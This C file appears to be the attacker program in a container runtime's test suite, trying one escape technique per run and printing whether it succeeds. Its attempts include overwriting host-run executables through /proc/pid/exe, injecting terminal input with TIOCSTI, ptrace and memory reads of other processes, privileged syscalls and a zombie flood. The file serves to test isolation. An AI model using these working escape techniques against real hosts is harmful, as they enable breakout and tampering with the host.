/* attack: what a hostile program in a container tries, one verb a run. It prints what it got; the tests say what it must not get. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

static const char *word(long result)
{
	return result < 0 ? strerrorname_np(errno) : "ok";
}

/* `fds`: the open descriptors and what they are, one a line. */
static void list_descriptors(void)
{
	for (int fd = 0; fd < 65536; fd++) {
		char name[64], link[512] = "";

		if (fcntl(fd, F_GETFD) < 0)
			continue;
		snprintf(name, sizeof(name), "/proc/self/fd/%d", fd);
		if (readlink(name, link, sizeof(link) - 1) < 0)
			strcpy(link, "?");
		printf("%d %s\n", fd, link);
	}
}

/* The processes that are neither the first one nor this one. */
static int next_process(DIR *proc)
{
	struct dirent *entry;

	while ((entry = readdir(proc))) {
		int pid = atoi(entry->d_name);

		if (pid > 1 && pid != getpid())
			return pid;
	}
	return 0;
}

/*
 * `overwrite`: hold on to the executable of every process that appears and is not in this root, and try to write to it for as long as it
 * takes until it is not busy any more. Ends when /stop is there.
 */
static void overwrite(void)
{
	int held[256], n = 0, written = 0, busy = 0;

	puts("ready");
	while (access("/stop", F_OK) < 0) {
		DIR *proc = opendir("/proc");

		for (int pid; (pid = next_process(proc)) > 0;) {
			char path[64], target[256] = "";
			struct stat st, seen;
			int fd;

			snprintf(path, sizeof(path), "/proc/%d/exe", pid);
			fd = n < 256 ? open(path, O_PATH) : -1;
			if (fd < 0)
				continue;
			if (readlink(path, target, sizeof(target) - 1) < 0 || fstat(fd, &st) < 0 ||
			    (stat(target, &seen) == 0 && seen.st_dev == st.st_dev && seen.st_ino == st.st_ino)) {
				close(fd); /* a program of this root */
				continue;
			}
			held[n++] = fd;
			if (n == 1)
				puts("holding");
		}
		closedir(proc);
		for (int i = 0; i < n; i++) {
			char path[64];
			int fd;

			snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i]);
			fd = open(path, O_WRONLY);
			if (fd >= 0 && write(fd, "#!/bin/owned\n", 13) == 13)
				written++;
			if (fd >= 0)
				close(fd);
		}
	}
	/* Busy without a process in here that runs it: then it is the file that the engine outside runs, and only that it runs protects it. */
	for (int i = 0; i < n; i++) {
		char path[64];

		snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i]);
		busy += open(path, O_WRONLY) < 0 && errno == ETXTBSY;
	}
	printf("caught %s written %d busy %d\n", n > 0 ? "some" : "none", written, busy);
}

/* Trace the process PID for a moment. Return: whether that was possible while it was no program of this root yet. */
static bool holds(int pid)
{
	char path[64], now[256] = "";

	if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
		return false;
	ptrace(PTRACE_INTERRUPT, pid, 0, 0);
	waitpid(pid, NULL, __WALL); /* it stops, or has ended: only a stopped one can be let go */
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	bool early = readlink(path, now, sizeof(now) - 1) > 0 && strncmp(now, "/bin/", 5) != 0;
	ptrace(PTRACE_DETACH, pid, 0, 0);
	return early;
}

/* `look`: what other processes of the container let us see of themselves, until /stop is there: paths that are not in this root. */
static void look(void)
{
	static const char *const names[] = { "cwd", "root", "fd/3", "fd/4", "fd/5", "fd/6", "fd/7", "fd/8" };
	int seen = 0, opened = 0, traced = 0;

	puts("ready");
	while (access("/stop", F_OK) < 0) {
		DIR *proc = opendir("/proc");

		for (int pid; (pid = next_process(proc)) > 0;) {
			char path[64], exe[256] = "", link[256];

			snprintf(path, sizeof(path), "/proc/%d/exe", pid);
			if (readlink(path, exe, sizeof(exe) - 1) > 0 && strncmp(exe, "/bin/", 5) == 0)
				continue; /* it has become one of ours */
			seen++;
			for (size_t i = 0; i < sizeof(names) / sizeof(*names); i++) {
				snprintf(path, sizeof(path), "/proc/%d/%s", pid, names[i]);
				if (i > 1 && readlink(path, link, sizeof(link)) > 0)
					opened++;
			}
			traced += holds(pid);
		}
		closedir(proc);
	}
	printf("seen %s opened %d traced %d\n", seen > 0 ? "some" : "none", opened, traced);
}

#define TRY(name, ...) printf("%s %s\n", name, word(syscall(__VA_ARGS__)))

/* `calls`: system calls that a container has no business with, each with arguments that would do no harm. */
static void calls(void)
{
	char room[256] = { 0 };

	TRY("io_uring_setup", SYS_io_uring_setup, 1, room);
	TRY("userfaultfd", SYS_userfaultfd, 0);
	TRY("bpf", SYS_bpf, 0, room, sizeof(room));
	TRY("perf_event_open", SYS_perf_event_open, room, 0, -1, -1, 0);
	TRY("keyctl", SYS_keyctl, 0, -3, 0, 0, 0);
	TRY("add_key", SYS_add_key, "user", "x", "x", 1, -2);
	TRY("request_key", SYS_request_key, "user", "x", NULL, 0);
	TRY("open_by_handle_at", SYS_open_by_handle_at, AT_FDCWD, room, O_RDONLY);
	TRY("mount", SYS_mount, "none", "/tmp", "tmpfs", 0, NULL);
	TRY("fsopen", SYS_fsopen, "tmpfs", 0);
	TRY("open_tree", SYS_open_tree, AT_FDCWD, "/", 1);
	TRY("move_mount", SYS_move_mount, -1, "", -1, "", 0);
	TRY("mount_setattr", SYS_mount_setattr, -1, "", 0, room, 32);
	TRY("umount2", SYS_umount2, "/proc", MNT_DETACH);
	TRY("pivot_root", SYS_pivot_root, ".", ".");
	TRY("setns", SYS_setns, 0, 0);
	TRY("unshare", SYS_unshare, CLONE_NEWUSER);
	TRY("clone", SYS_clone, CLONE_NEWUSER | CLONE_NEWNS | CLONE_VM | CLONE_THREAD, 0, 0, 0, 0); /* EINVAL where it is let through */
	TRY("clone3", SYS_clone3, room, 8);
	TRY("kexec_load", SYS_kexec_load, 0, 0, NULL, 0);
	TRY("init_module", SYS_init_module, room, 0, "");
	TRY("finit_module", SYS_finit_module, -1, "", 0);
	TRY("delete_module", SYS_delete_module, "nothing", 0);
	TRY("swapon", SYS_swapon, "/nothing", 0);
	TRY("acct", SYS_acct, "/nothing");
	TRY("quotactl", SYS_quotactl, 0, "/nothing", 0, NULL);
	TRY("reboot", SYS_reboot, 0, 0, 0, NULL);
	TRY("settimeofday", SYS_settimeofday, room, NULL);
	TRY("clock_settime", SYS_clock_settime, 0, room);
	TRY("syslog", SYS_syslog, 3, room, sizeof(room));
	TRY("personality", SYS_personality, 0x0400000); /* ADDR_NO_RANDOMIZE is 0x0040000 */
	TRY("move_pages", SYS_move_pages, 0, 0, NULL, NULL, NULL, 0);
	TRY("mknod", SYS_mknodat, AT_FDCWD, "/tmp/disk", S_IFBLK | 0600, 0x800);
	TRY("vsock", SYS_socket, 40 /* AF_VSOCK */, SOCK_STREAM, 0);
}

/* `type TEXT`: put TEXT into the input of every terminal that can be reached; then a selection into the console's (TIOCLINUX). */
static void type(const char *text)
{
	static const char *const names[] = { "/dev/tty", "/dev/console", "/proc/1/fd/0", "/dev/pts/0" };
	char paste[] = { 3 };
	int fds[7] = { 0, 1, 2 }, typed = 0;

	for (size_t i = 0; i < 4; i++)
		fds[3 + i] = open(names[i], O_RDWR | O_NOCTTY);
	for (size_t i = 0; i < 7; i++) {
		bool all = fds[i] >= 0;

		for (const char *c = text; *c && all; c++)
			all = ioctl(fds[i], TIOCSTI, c) == 0;
		typed += all;
		if (fds[i] >= 0)
			ioctl(fds[i], TIOCLINUX, paste);
	}
	printf("typed into %d\n", typed);
}

/* `swap A B`: exchange two names for ever. */
static void swap(const char *a, const char *b)
{
	puts("ready");
	for (;;)
		renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
}

/* `connect NAME`: a stream socket of the abstract namespace. */
static void connect_abstract(const char *name)
{
	struct sockaddr_un address = { .sun_family = AF_UNIX };
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);

	strncpy(address.sun_path + 1, name, sizeof(address.sun_path) - 2);
	puts(word(connect(fd, (struct sockaddr *)&address, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name)))));
}

/* `trace PID`: every way to look into a process. */
static void trace(int pid)
{
	char path[64], byte;
	struct iovec here = { &byte, 1 }, there = { (void *)0x400000, 1 };
	static const char *const names[] = { "root/etc", "environ", "mem", "maps", "fd/0", "cwd/.", "exe" };

	printf("seize %s\n", word(ptrace(PTRACE_SEIZE, pid, 0, 0)));
	printf("read %s\n", word(process_vm_readv(pid, &here, 1, &there, 1, 0)));
	for (size_t i = 0; i < sizeof(names) / sizeof(*names); i++) {
		snprintf(path, sizeof(path), "/proc/%d/%s", pid, names[i]);
		printf("%s %s\n", names[i], word(open(path, O_RDONLY)));
	}
}

/* `flood COUNT`: children that end and that nobody reaps, left to the first process. */
static void flood(int count)
{
	for (int i = 0; i < count; i++) {
		pid_t pid = fork();

		if (pid == 0) {
			if (fork() == 0)
				_exit(0);
			_exit(0);
		}
		waitpid(pid, NULL, 0);
	}
	puts("flooded");
}

int main(int argc, char **argv)
{
	const char *verb = argc > 1 ? argv[1] : "";

	setvbuf(stdout, NULL, _IONBF, 0);
	if (!strcmp(verb, "fds"))
		list_descriptors();
	else if (!strcmp(verb, "overwrite"))
		overwrite();
	else if (!strcmp(verb, "look"))
		look();
	else if (!strcmp(verb, "calls"))
		calls();
	else if (!strcmp(verb, "type") && argc > 2)
		type(argv[2]);
	else if (!strcmp(verb, "swap") && argc > 3)
		swap(argv[2], argv[3]);
	else if (!strcmp(verb, "connect") && argc > 2)
		connect_abstract(argv[2]);
	else if (!strcmp(verb, "trace") && argc > 2)
		trace(atoi(argv[2]));
	else if (!strcmp(verb, "flood") && argc > 2)
		flood(atoi(argv[2]));
	else
		return 2;
	return 0;
}
